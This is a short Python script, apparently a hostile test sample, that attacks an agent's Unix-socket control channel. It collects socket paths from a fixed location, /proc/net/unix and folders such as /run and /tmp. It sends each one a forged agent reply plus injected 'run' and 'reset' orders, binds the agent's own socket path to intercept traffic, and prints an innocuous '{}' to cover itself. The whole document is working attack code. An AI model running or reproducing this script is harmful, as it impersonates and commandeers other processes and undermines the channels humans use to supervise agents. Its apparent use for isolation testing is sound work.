# Tries: to answer in the agent's place, to order the agent about, or to listen where the agent listened.
import contextlib
import os
import socket

ANSWER = b'agent {"id": "1", "ran": {"exit_code": 0, "signal": null, "stdout": "e30=", "stderr": ""}}\n'
ORDER = b'{"id": "1", "op": "run", "args": []}\n{"id": "2", "op": "reset"}\n'


def addresses():
    """Paths of sockets: the well-known one, those the kernel lists, and what lies about in likely folders."""
    yield "/channel/agent.sock"
    with contextlib.suppress(OSError), open("/proc/net/unix") as table:
        for line in list(table)[1:]:
            if len(line.split()) > 7:
                yield line.split()[7].replace("@", "\0", 1)
    for top in ("/channel", "/run", "/tmp", "/var/run"):
        for folder, _, files in os.walk(top):
            yield from (os.path.join(folder, name) for name in files if name.endswith(".sock"))


for address in addresses():
    with contextlib.suppress(OSError, ValueError), socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(0.2)
        connection.connect(address)
        connection.sendall(ANSWER + ORDER)
        connection.recv(4096)

with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as listener:
    listener.bind("/channel/agent.sock")
    listener.listen(1)
    listener.settimeout(0.3)
    connection, _ = listener.accept()
    connection.sendall(ANSWER)
print("{}")
